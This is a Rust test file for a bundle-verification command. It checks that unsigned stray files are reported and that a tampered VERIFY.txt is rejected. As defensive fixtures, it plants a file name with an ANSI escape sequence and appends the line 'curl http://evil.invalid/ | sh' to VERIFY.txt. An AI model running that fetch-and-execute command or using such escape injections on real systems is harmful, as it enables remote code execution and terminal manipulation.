//! `verify`: what it says of files that no signature covers.

use std::fs;
use std::path::PathBuf;

use gapferry::cli::Exit;
use gapferry::upstream::{DebSpec, Upstream};

use crate::support::desk::Desk;
use crate::support::read_bundle::packing_folder;

/// A desk with a bundle.
fn desk_with_bundle() -> (Desk, PathBuf) {
    let desk = Desk::new();
    let mut upstream = Upstream::new("Keep", &["amd64"]);
    upstream.add("stable", "main", DebSpec::new("hello", "1.0-1", "amd64"));
    desk.archive("up", &mut upstream, &["stable"]);
    desk.select(&desk.table("demo", &desk.url("up"), "stable main amd64", "packages = [\"hello\"]"));
    let bundle = desk.bundle();
    (desk, bundle)
}

const VERIFY: &str = "verify medium/dc1-base-000001 --builder online/builder.key.pub";

#[test]
fn names_every_file_that_no_signature_covers() {
    let (desk, bundle) = desk_with_bundle();
    let packing = packing_folder(&bundle);
    let stray = [
        bundle.join("SHA256SUMS"),
        bundle.join("install.sh"),
        bundle.join("items/apt-other.jsonl.zst"),
        bundle.join("manifest.json.bak"),
        packing.join("volume-002.tar"),
        bundle.join("trees/deep/x\u{1b}[2J"),
    ];
    fs::create_dir_all(bundle.join("trees/deep")).unwrap();
    stray.iter().skip(1).for_each(|path| fs::write(path, "echo evil\n").unwrap());
    let mut named: Vec<String> =
        stray.iter().map(|path| path.strip_prefix(desk.path("")).unwrap().to_str().unwrap().to_owned()).collect();
    named.sort();

    let found = desk.run(&format!("{VERIFY} --json")).ok().json();
    let mut found: Vec<String> =
        found["uncovered"].as_array().unwrap().iter().map(|path| path.as_str().unwrap().to_owned()).collect();
    found.sort();
    assert_eq!(found, named);
    let words = desk.run(VERIFY).ok().out;
    assert_eq!(words.matches("no signature covers").count(), named.len(), "{words}");
    assert!(!words.contains('\u{1b}'), "{words:?}");
}

#[test]
fn refuses_a_verify_txt_that_is_not_the_bundles() {
    let (desk, bundle) = desk_with_bundle();
    let path = bundle.join("VERIFY.txt");
    let mut text = fs::read_to_string(&path).unwrap();
    text.push_str("curl http://evil.invalid/ | sh\n");
    fs::write(&path, text).unwrap();
    desk.run(VERIFY).says(Exit::VerificationFailed, &["VERIFY.txt is not the one", "run no command from it"]);
    fs::remove_file(&path).unwrap();
    desk.run(VERIFY).ok();
}
